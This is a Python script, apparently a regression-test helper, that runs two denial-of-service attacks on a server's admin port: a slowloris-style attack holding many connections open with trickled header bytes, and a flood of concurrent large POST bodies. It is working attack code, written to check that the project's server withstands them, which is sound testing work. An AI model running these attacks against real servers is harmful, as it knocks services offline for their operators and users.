#!/usr/bin/env python3
"""The two attacks on the admin port of issue 16, dependency-free.

  admin_attack.py slow HOST PORT N SECONDS [INTERVAL]
      Keeps N connections open for SECONDS, each trickling one byte of a
      request's headers every INTERVAL s (2); a connection the server
      closes is opened again, so the pressure stays.
  admin_attack.py body HOST PORT N [BYTES] [PATH]
      N connections at once, each sending "POST PATH" (/health) with a
      BYTES (990000) body as fast as the server takes it; reads what the
      server answers.

Both print one line of key=value figures on stdout and write it to the
file named by $ATTACK_STATUS as they go (the test reads it).
"""
import os
import resource
import selectors
import socket
import sys
import time

HEAD = b"GET /health HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 4000


def raise_nofile(n):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = min(hard, n + 64)
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))


def status(stats):
    line = " ".join("%s=%s" % kv for kv in stats.items())
    path = os.environ.get("ATTACK_STATUS")
    if path:
        with open(path + ".tmp", "w") as f:
            f.write(line + "\n")
        os.replace(path + ".tmp", path)
    return line


def connect(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    try:
        s.connect_ex((host, port))
    except OSError:
        s.close()
        return None
    return s


def slow(host, port, n, secs, interval):
    sel = selectors.DefaultSelector()
    st = {"open": 0, "opened": 0, "closed_by_server": 0, "max_open": 0,
          "bytes": 0}
    conns = {}
    end = time.monotonic() + secs
    next_trickle = time.monotonic()
    last_status = 0.0
    while time.monotonic() < end:
        batch = 0
        while len(conns) < n and batch < 200:    # at most 2,000 a second
            batch += 1
            s = connect(host, port)
            if s is None:
                break
            conns[s] = 0
            sel.register(s, selectors.EVENT_READ)
            st["opened"] += 1
        st["open"] = len(conns)
        st["max_open"] = max(st["max_open"], len(conns))
        now = time.monotonic()
        if now >= next_trickle:
            for s in list(conns):
                try:
                    s.send(HEAD[conns[s] % len(HEAD):][:1])
                    conns[s] += 1
                    st["bytes"] += 1
                except (BlockingIOError, InterruptedError):
                    pass
                except OSError:
                    drop(sel, conns, s, st)
            next_trickle = now + interval
        t0 = time.monotonic()
        for key, _ in sel.select(timeout=0.1):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if not data:
                drop(sel, conns, s, st)
        time.sleep(max(0.0, 0.1 - (time.monotonic() - t0)))
        if now - last_status > 0.5:
            status(st)
            last_status = now
    for s in list(conns):
        s.close()
    st["open"] = 0
    return status(st)


def drop(sel, conns, s, st):
    sel.unregister(s)
    s.close()
    del conns[s]
    st["closed_by_server"] += 1


def body(host, port, n, size, path):
    sel = selectors.DefaultSelector()
    head = ("POST %s HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            "Content-Length: %d\r\n\r\n" % (path, size)).encode()
    chunk = b"a" * 65536
    st = {"answers": 0, "reset": 0, "sent_bytes": 0}
    codes = {}
    conns = {}
    for _ in range(n):
        s = connect(host, port)
        if s is None:
            continue
        conns[s] = {"left": len(head) + size, "head": head, "got": b""}
        sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE)
    deadline = time.monotonic() + 30
    while conns and time.monotonic() < deadline:
        for key, ev in sel.select(timeout=0.5):
            s, c = key.fileobj, conns[key.fileobj]
            if ev & selectors.EVENT_WRITE and c["left"] > 0:
                data = c["head"] or chunk[:min(len(chunk), c["left"])]
                try:
                    k = s.send(data)
                    c["left"] -= k
                    st["sent_bytes"] += k
                    c["head"] = c["head"][k:]
                except (BlockingIOError, InterruptedError):
                    pass
                except OSError:
                    c["left"] = 0
                if c["left"] <= 0:
                    sel.modify(s, selectors.EVENT_READ)
            if ev & selectors.EVENT_READ:
                try:
                    data = s.recv(65536)
                except (BlockingIOError, InterruptedError):
                    continue
                except OSError:
                    data = None
                if data:
                    c["got"] += data
                    continue
                line = c["got"].split(b"\r\n", 1)[0].split(b" ")
                if len(line) > 1:
                    st["answers"] += 1
                    codes[line[1].decode()] = codes.get(line[1].decode(),
                                                        0) + 1
                else:
                    st["reset"] += 1
                sel.unregister(s)
                s.close()
                del conns[s]
    st["unanswered"] = len(conns)
    for code, k in sorted(codes.items()):
        st["status_" + code] = k
    return status(st)


def main(argv):
    if len(argv) < 5 or argv[1] not in ("slow", "body"):
        sys.exit(__doc__)
    host, port, n = argv[2], int(argv[3]), int(argv[4])
    raise_nofile(n)
    if argv[1] == "slow":
        print(slow(host, port, n, float(argv[5]),
                   float(argv[6]) if len(argv) > 6 else 2.0), flush=True)
    else:
        print(body(host, port, n, int(argv[5]) if len(argv) > 5 else 990000,
                   argv[6] if len(argv) > 6 else "/health"), flush=True)


if __name__ == "__main__":
    main(sys.argv)
